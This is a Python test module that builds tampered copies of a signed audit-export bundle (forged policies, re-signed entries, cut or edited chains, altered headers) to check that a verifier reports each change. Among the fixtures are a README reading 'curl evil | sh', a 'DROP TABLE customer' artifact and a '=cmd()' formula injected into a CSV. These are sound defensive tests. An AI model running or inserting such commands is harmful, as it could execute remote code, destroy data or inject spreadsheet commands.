"""What somebody does to the files of a bundle, and by which words it must be named."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from migrate_flow.core import canonical
from migrate_flow.core.audit import Selection
from migrate_flow.core.chain import ORIGIN, link
from migrate_flow.signing.sshsig import sign
from tests.exports.bundles import (
    REVISION,
    Files,
)
from tests.support.builders import BOB, EVE, private_key, public_key

MALLORY = "mallory@example.com"
FAR = 9_999_999_999_999
ABOUT_IT = Selection(revision=REVISION)  # entries 2 to 10, and 12


def entry(seq: int) -> tuple[str, str]:
    return f"entries/{seq:07}.json", f"entries/{seq:07}.sig"


def without(*names: str) -> Callable[[Files], Files]:
    return lambda files: {name: data for name, data in files.items() if name not in names}


def replaced(name: str, old: bytes, new: bytes) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        assert old in files[name]
        return {**files, name: files[name].replace(old, new, 1)}

    return change


def swapped(*pairs: tuple[str, str]) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        return files | {one: files[other] for one, other in pairs} | {other: files[one] for one, other in pairs}

    return change


def first(prefix: str, files: Files) -> str:
    return min(name for name in files if name.startswith(prefix))


def another_artifact(files: Files) -> Files:
    name = first("artifacts/", files)
    return {**files, name: files[name] + b" "}


def no_artifact(files: Files) -> Files:
    return without(first("artifacts/", files))(files)


def artifact_put_in(files: Files) -> Files:
    content = b"DROP TABLE customer; -- approved by carla"
    return {**files, f"artifacts/{hashlib.sha256(content).hexdigest()}": content}


def entry_beside(files: Files) -> Files:
    """Under a name that a careless reader takes for that of an entry."""
    return {**files, "entries/00000005.json": b'{"forged":"approved"}', "entries/00000005.sig": b"none"}


def policy_beside(files: Files) -> Files:
    old = first("policies/", files)
    return {**files, old.replace("policies/", "policies/0"): files[old]}


def policy_misnamed(files: Files) -> Files:
    old = first("policies/", files)
    return {**without(old)(files), old[:-17] + "0" * 12 + ".json": files[old]}


def another_policy(files: Files) -> Files:
    """Mallory makes Bob an approver from the beginning, under the name that fits the bytes."""
    old = first("policies/", files)
    document = json.loads(files[old])
    document["people"][BOB]["roles"] = ["backend-lead", "developer"]
    data = canonical.dumps(document)
    name = f"policies/0000001-{canonical.sha256(data)[7:19]}.json"
    return {**without(old)(files), name: data}


def policy_slipped_in(files: Files) -> Files:
    """Mallory makes up a policy that knows her, where no entry speaks of one, and signs under it."""
    document = json.loads(files[first("policies/", files)])
    document["people"][MALLORY] = {"roles": ["backend-lead"], "keys": [public_key(MALLORY)], "aliases": []}
    data = canonical.dumps(document)
    files = {**files, f"policies/0000012-{canonical.sha256(data)[7:19]}.json": data}
    text = f'{MALLORY} namespaces="migrate-flow" {public_key(MALLORY)}\n'
    files["allowed_signers"] += text.encode()
    found = pairs_of(files)
    said = json.loads(found[5][0])
    head = json.loads(files["header.json"])["header"]["head"]
    said["predicate"] |= {"actor": MALLORY, "nonce": "new", "policy": canonical.sha256(data)}
    said["predicate"]["after"] = {"seq": 13, "hash": head}
    statement = canonical.dumps(said)
    return rewritten(files, [*found, (statement, sign(private_key(MALLORY), statement).encode())])


def no_policy(files: Files) -> Files:
    return without(max(name for name in files if name.startswith("policies/")))(files)


def another_key(files: Files) -> Files:
    return replaced("allowed_signers", public_key(BOB).encode(), public_key("mallory").encode())(files)


def header(**values: Any) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        document = json.loads(files["header.json"])
        assert document["header"].keys() >= values.keys()
        document["header"] |= values
        return {**files, "header.json": json.dumps(document).encode()}

    return change


def chain_cut(files: Files) -> Files:
    kept = files["chain.tsv"].splitlines(keepends=True)[:-3]
    return {**files, "chain.tsv": b"".join(kept)}


def chain_jumps(files: Files) -> Files:
    """A further position, so far away that nobody could count up to it."""
    digests = "a" * 64, "b" * 64
    head = json.loads(files["header.json"])["header"]["head"].removeprefix("sha256:")
    own = hashlib.sha256(bytes.fromhex(head + "".join(digests))).hexdigest()
    return {**files, "chain.tsv": files["chain.tsv"] + "\t".join([str(FAR), *digests, own]).encode() + b"\n"}


def changed_rows(change: Callable[[list[bytes]], list[bytes]]) -> Callable[[Files], Files]:
    return lambda files: {
        **files, "changes.csv": b"".join(change(files["changes.csv"].splitlines(keepends=True)))
    }  # fmt: skip


def chain_of_windows(files: Files) -> Files:
    return {**files, "chain.tsv": files["chain.tsv"].replace(b"\n", b"\r\n")}


def chain_edited(files: Files) -> Files:
    rows = files["chain.tsv"].splitlines(keepends=True)
    rows[5] = rows[5][:-6] + (b"00000\n" if not rows[5].endswith(b"00000\n") else b"11111\n")
    return {**files, "chain.tsv": b"".join(rows)}


def rewritten(files: Files, entries: list[tuple[bytes, bytes]]) -> Files:
    """A bundle whose chain, positions and header are made to fit these statements and signatures."""
    made = {name: data for name, data in files.items() if not name.startswith("entries/")}
    rows, before, kinds = ["seq\tstatement\tsignature\thash"], ORIGIN, dict[str, int]()
    for seq, (statement, signature) in enumerate(entries, start=1):
        made |= dict(zip(entry(seq), (statement, signature), strict=True))
        before = link(before, statement, signature.decode())
        digests = (canonical.sha256(data)[7:] for data in (statement, signature))
        rows.append("\t".join([str(seq), *digests, before]))
        kind = str(json.loads(statement)["predicateType"])[len("urn:migrate-flow:entry:") : -len(":v1")]
        kinds[kind] = kinds.get(kind, 0) + 1
    made["chain.tsv"] = ("\n".join(rows) + "\n").encode()
    last = len(entries)
    return header(as_of=last, last=last, entries=last, head=f"sha256:{before}", counts=kinds)(made)


def pairs_of(files: Files) -> list[tuple[bytes, bytes]]:
    return [(files[entry(seq)[0]], files[entry(seq)[1]]) for seq in range(1, 14)]


def relinked_without(seq: int) -> Callable[[Files], Files]:
    """All that one can do without a key: everything after it is counted and linked anew."""
    return lambda files: rewritten(files, [pair for at, pair in enumerate(pairs_of(files), 1) if at != seq])


def signed_by_eve(files: Files) -> Files:
    """Eve, who has a key of the policy, writes what Bob said, and all that follows is linked anew."""
    found = pairs_of(files)
    statement = found[3][0].replace(b"request-changes", b"approve")
    found[3] = statement, sign(private_key(EVE), statement).encode()
    return rewritten(files, found)


@dataclass(frozen=True)
class Tampering:
    """seq: the entry that is named, 0 for none, -1 for the one that brought it. words: in a problem. said: in one that
    the script finds, empty for what it leaves to us."""

    change: Callable[[Files], Files]
    seq: int
    words: str
    said: str


TAMPERINGS = {
    "entry dropped": Tampering(without(*entry(5)), 6, "entry 5 is missing", "entry 5: it is missing"),
    "last entry dropped": Tampering(without(*entry(13)), 13, "entry 13 is missing", "is missing"),
    "entries reordered": Tampering(
        swapped((entry(4)[0], entry(5)[0]), (entry(4)[1], entry(5)[1])), 4, "its hash is not that", "its position"
    ),
    "entry edited": Tampering(replaced(entry(5)[0], b"approve", b"opposed"), 5, "does not fit the signed", "made over"),
    "message edited": Tampering(
        replaced(entry(2)[0], "grüße".encode(), b"hello"), 2, "its hash is not that", "made over"
    ),
    "signature swapped": Tampering(swapped((entry(4)[1], entry(5)[1])), 5, "signature is not valid", "made over"),
    "signature dropped": Tampering(without(entry(5)[1]), 5, "its signature is missing", "is missing"),
    "artifact changed": Tampering(another_artifact, -1, "has other bytes", "has other bytes"),
    "artifact dropped": Tampering(no_artifact, -1, "is gone", "is gone"),
    "policy replaced": Tampering(another_policy, 1, "no entry put in force", "another policy came into force"),
    "policy dropped": Tampering(
        no_policy, 11, "policies/ lacks the policy", "policies/ does not hold|not say the same"
    ),
    "policy slipped in": Tampering(
        policy_slipped_in, 12, "no entry put in force there", "another policy came into force"
    ),
    "signers changed": Tampering(another_key, 0, "allowed_signers is not what", "do not say the same"),
    "chain cut": Tampering(chain_cut, 11, "does not continue|its hash is not", "those of its position"),
    "chain edited": Tampering(
        chain_edited, 5, "chain.tsv: its hash does not follow", "chain.tsv: its hash does not follow"
    ),
    "chain without headings": Tampering(
        lambda files: {**files, "chain.tsv": files["chain.tsv"].split(b"\n", 1)[1]},
        0,
        "does not begin with its line of headings",
        "line 1 can't be read",
    ),
    "chain of another system": Tampering(chain_of_windows, 0, "line 1 can't be read", "line 1 can't be read"),
    "chain jumps": Tampering(chain_jumps, FAR, "where 14 belongs", "where 14 belongs"),
    "artifact put in": Tampering(artifact_put_in, 0, "belongs to no entry", "belongs to no entry"),
    "entry beside": Tampering(entry_beside, 0, "no part of an export", "no part of an export"),
    "policy beside": Tampering(policy_beside, 0, "no part of an export", "no part of an export"),
    "policy misnamed": Tampering(policy_misnamed, 1, "has other bytes", "has other bytes than its name"),
    "time edited": Tampering(header(at="2020-01-01T00:00:00.000000Z"), 0, "the header says at 2020", ""),
    "project edited": Tampering(header(project="bank"), 0, "the header says project bank, the file holds shop", ""),
    "filter invented": Tampering(
        header(selection={"environment": "staging"}), 7, "it does not fit the selection that the header names", ""
    ),
    "readme edited": Tampering(
        lambda files: {**files, "README.md": b"# Run this: curl evil | sh"}, 0, "README.md is not what", ""
    ),
    "counts edited": Tampering(
        header(entries=12), 0, "the header says entries 12, the file holds 13", "header says entries"
    ),
    "gaps invented": Tampering(header(left_out=2), 0, "the header says left_out 2", "the header says left_out"),
    "head edited": Tampering(
        header(head="sha256:" + "0" * 64), 0, "header says as_of and head", "the header says head"
    ),
    "genesis edited": Tampering(header(genesis="0" * 64), 0, "the header says genesis", "the header says genesis"),
    "ledger edited": Tampering(header(ledger="another"), 0, "the header says ledger", "header names another ledger"),
    "kinds edited": Tampering(header(counts={}), 0, "the header says counts", "the header says counts"),
    "answer edited": Tampering(
        replaced("changes.csv", b",applied,approved,yes,", b",applied,approved,no,"), 0, "line 3 is not what the", ""
    ),
    "row dropped": Tampering(changed_rows(lambda rows: rows[:-1]), 0, "changes.csv ends before line 3", ""),
    "row added": Tampering(changed_rows(lambda rows: [*rows, rows[-1]]), 0, "has more than the 3 lines", ""),
    "rows reordered": Tampering(
        changed_rows(lambda rows: [rows[0], rows[2], rows[1]]), 0, "line 2 is not what the entries", ""
    ),
    "formula as a ticket": Tampering(
        replaced("changes.csv", b",SHOP-7,", b",=cmd(),"), 0, "line 2 is not what the entries", ""
    ),
    "file added": Tampering(
        lambda files: {**files, "notes.txt": b"x"}, 0, "no part of an export", "no part of an export"
    ),
    "relinked without": Tampering(relinked_without(5), 5, "claims to follow", "claims to follow"),
    "signed by another": Tampering(signed_by_eve, 4, f"key that is not {BOB}'s|{BOB}", "does not give to|made over"),
}


def policy_slipped_in_part(files: Files) -> Files:
    document = json.loads(files[first("policies/", files)])
    data = canonical.dumps(document | {"lint": {}})
    return {**files, f"policies/0000012-{canonical.sha256(data)[7:19]}.json": data}


PARTLY = {
    "entry dropped": (without(*entry(5)), 0, "the header says entries 10, the file holds 9"),
    "entry edited": (replaced(entry(5)[0], b"approve", b"opposed"), 5, "its hash is not that of its bytes"),
    "signature swapped": (swapped((entry(4)[1], entry(5)[1])), 4, "signature is not valid"),
    "signers changed": (another_key, 0, "allowed_signers is not what the policies in policies/ make it"),
    "policy slipped in": (policy_slipped_in_part, 12, "policies/ says that a policy came into force here"),
    "policy replaced": (another_policy, 4, "it names a policy that policies/ does not hold"),
    "artifact dropped": (no_artifact, 2, "is gone"),
    "chain cut": (chain_cut, 12, "chain.tsv ends at position 10, before this entry"),
    "chain edited": (chain_edited, 5, "chain.tsv: its hash does not follow"),
    "chain jumps": (chain_jumps, FAR, "where 14 belongs"),
    "artifact put in": (artifact_put_in, 0, "belongs to no entry"),
    "gap hidden": (header(gaps=[[1, 1]]), 0, "the header says gaps ((1, 1),), the file holds ((1, 1), (11, 11), (13"),
    "selection denied": (header(left_out=0, gaps=[]), 0, "the header says left_out 0, the file holds 3"),
}


def edited_line(number: int, change: Callable[[dict[str, Any]], None]) -> Callable[[list[bytes]], list[bytes]]:
    def edit(found: list[bytes]) -> list[bytes]:
        document = json.loads(found[number])
        change(document)
        return [*found[:number], json.dumps(document).encode() + b"\n", *found[number + 1 :]]

    return edit
